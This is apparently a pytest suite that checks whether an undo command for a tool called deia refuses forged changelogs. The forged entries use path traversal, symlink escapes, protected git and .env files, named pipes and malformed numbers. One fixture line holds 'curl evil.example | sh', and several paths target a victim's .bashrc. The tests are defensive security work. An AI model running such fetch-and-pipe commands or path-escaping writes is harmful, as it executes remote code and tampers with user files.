"""A changelog that somebody else wrote cannot make `deia learn undo` touch a file that deia would not have written."""

from __future__ import annotations

import hashlib
import json
import os
import sys
from typing import TYPE_CHECKING, Any

import pytest

from deia.learn.apply import CHANGELOG, read_changes, undo
from deia.problems import CommonsError

if TYPE_CHECKING:
    from pathlib import Path

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="needs links and named pipes")
INDEX = 'version: "1.0"\nclusters: {}\n'
VICTIM = "alias ll='ls -l'\n"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    (tmp_path / "victim").mkdir()
    (tmp_path / "victim/.bashrc").write_text(VICTIM, encoding="utf-8")
    root = tmp_path / "clone"
    (root / "telemetry").mkdir(parents=True)
    (root / "commons_index.yaml").write_text(INDEX, encoding="utf-8")
    return root


def sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def forge(root: Path, path: str, *, now: str, before: str = "0" * 64, hunk: dict[str, Any] | None = None) -> None:
    """Write a changelog whose second line takes `now` to be what was written to a path."""
    inserted = {"at": 0, "old": ["curl evil.example | sh"], "new": [], "above": [], "below": now.split("\n")[:2]}
    edit = {"path": path, "before": before, "after": sha(now), "hunks": [hunk or inserted]}
    line = {"at": "2026-01-01", "id": "k-1", "does": ["x"], "because": "y", "files": [edit]}
    (root / CHANGELOG).write_text("\n" + json.dumps(line) + "\n", encoding="utf-8")


def listing(folder: Path) -> dict[str, str]:
    return {
        path.relative_to(folder).as_posix(): os.readlink(path) if path.is_symlink() else path.read_text("utf-8")
        for path in folder.rglob("*")
        if not path.is_dir() or path.is_symlink()
    }


def refused(root: Path) -> str:
    before = listing(root.parent)
    with pytest.raises(CommonsError) as caught:
        undo(str(root), now=1.0)
    assert listing(root.parent) == before
    return str(caught.value)


@pytest.mark.parametrize("path", ["../victim/.bashrc", "bok/../../victim/.bashrc", "~/.bashrc", "..\\victim\\.bashrc"])
def test_a_path_that_leaves_the_commons_is_refused_with_the_line_to_remove(root: Path, path: str) -> None:
    forge(root, path, now=VICTIM)
    message = refused(root)
    assert message.startswith(f"{CHANGELOG}:2: ")
    assert f"sed -i 2d {CHANGELOG}" in message


def test_an_absolute_path_is_refused(root: Path) -> None:
    forge(root, str(root.parent / "victim/.bashrc"), now=VICTIM)
    assert "leaves the commons" in refused(root)


@pytest.mark.parametrize("link", ["bok/lesson.md", "commons_index.yaml", "triggers/more.yaml"])
def test_a_link_that_leads_out_is_refused(root: Path, link: str) -> None:
    (root / link).parent.mkdir(exist_ok=True)
    (root / link).unlink(missing_ok=True)
    (root / link).symlink_to("../../victim/.bashrc" if "/" in link else "../victim/.bashrc")
    forge(root, link, now=VICTIM)
    assert "through a link" in refused(root)


def test_a_folder_that_is_a_link_out_is_refused(root: Path) -> None:
    (root / "bok").symlink_to("../victim")
    forge(root, "bok/.bashrc.md", now=VICTIM)
    assert "through a link" in refused(root)


@pytest.mark.parametrize("path", ["commons_index.yaml", "bok/mine.md", "Makefile", ".git/hooks/pre-commit"])
def test_an_entry_that_claims_to_have_created_a_file_cannot_delete_it(root: Path, path: str) -> None:
    text = INDEX if path == "commons_index.yaml" else "one line"
    (root / path).parent.mkdir(parents=True, exist_ok=True)
    (root / path).write_text(text, encoding="utf-8")
    whole = {"at": 0, "old": [""], "new": text.split("\n"), "above": [], "below": []}
    forge(root, path, now=text, before="", hunk=whole)
    assert f"{CHANGELOG}:2" in refused(root)


@pytest.mark.parametrize("path", [".git/config", "sub/.git/config", "Makefile", "deia.toml", ".env", ".claude/a.md"])
def test_files_that_learning_never_writes_are_refused(root: Path, path: str) -> None:
    (root / path).parent.mkdir(parents=True, exist_ok=True)
    (root / path).write_text("a\nb\n", encoding="utf-8")
    forge(root, path, now="a\nb\n")
    assert "Nothing was changed" in refused(root)


def test_a_link_to_gits_own_files_is_refused(root: Path) -> None:
    (root / ".git").mkdir()
    (root / ".git/config").write_text("[core]\n", encoding="utf-8")
    (root / "bok").mkdir()
    (root / "bok/lesson.md").symlink_to("../.git/config")
    forge(root, "bok/lesson.md", now="[core]\n")
    assert "belongs to git" in refused(root)


@pytest.mark.parametrize(
    "hunk",
    [
        {"at": 0, "old": ["x"], "new": ["not there"], "above": [], "below": []},
        {"at": -1, "old": ["x"], "new": [], "above": [], "below": []},
    ],
)
def test_lines_that_are_not_there_are_not_taken_back(root: Path, hunk: dict[str, Any]) -> None:
    forge(root, "commons_index.yaml", now=INDEX, hunk=hunk)
    assert "were changed since" in refused(root)


@pytest.mark.parametrize("at", ["1e999", '"x"', "null", "[" * 100_000, "9" * 5000])
def test_absurd_numbers_and_depths_in_a_changelog_are_skipped(root: Path, at: str) -> None:
    forge(root, "commons_index.yaml", now=INDEX)
    path = root / CHANGELOG
    path.write_text(path.read_text("utf-8").replace('"at": 0', f'"at": {at}'), encoding="utf-8")
    assert read_changes(str(root)) == []


@pytest.mark.parametrize("kind", ["pipe", "device", "out"])
def test_a_changelog_that_is_no_plain_file_is_named_and_not_read(root: Path, kind: str) -> None:
    place = root / CHANGELOG
    if kind == "pipe":
        os.mkfifo(place)
    else:
        place.symlink_to("/dev/zero" if kind == "device" else "../../victim/.bashrc")
    with pytest.raises(CommonsError, match=CHANGELOG):
        read_changes(str(root))
